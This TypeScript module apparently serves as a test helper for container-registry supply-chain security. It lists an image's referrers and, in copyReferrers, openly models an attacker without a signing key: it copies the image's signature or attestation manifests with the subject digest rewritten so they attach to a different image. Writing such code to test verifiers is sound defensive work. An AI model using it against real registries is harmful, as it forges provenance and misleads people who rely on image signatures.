import { request } from 'undici';

const send = async (url: string, options: Parameters<typeof request>[1] = {}): Promise<string> => {
  const { statusCode, body } = await request(url, options);
  const text = await body.text();
  if (statusCode >= 300) throw new Error(`${url}: ${statusCode} ${text}`);
  return text;
};

/** Lists the referrers of an image with the referrers API. The registry at `host` has no TLS and no authentication. */
export const listReferrers = async (
  host: string,
  name: string,
  digest: string,
): Promise<readonly { readonly digest: string; readonly mediaType: string }[]> => {
  const index = await send(`http://${host}/v2/${name}/referrers/${digest}`);
  return (JSON.parse(index) as { manifests: { digest: string; mediaType: string }[] }).manifests;
};

/**
 * Pushes copies of the referrers of one image that refer to another image: what an attacker without a key can do. The
 * registry at `host` has no TLS and no authentication.
 */
export const copyReferrers = async (host: string, name: string, from: string, to: string): Promise<void> => {
  const manifests = `http://${host}/v2/${name}/manifests`;
  for (const { digest, mediaType } of await listReferrers(host, name, from)) {
    const manifest = await send(`${manifests}/${digest}`);
    await send(`${manifests}/copy`, {
      method: 'PUT',
      headers: { 'content-type': mediaType },
      body: manifest.replaceAll(from, to),
    });
  }
};
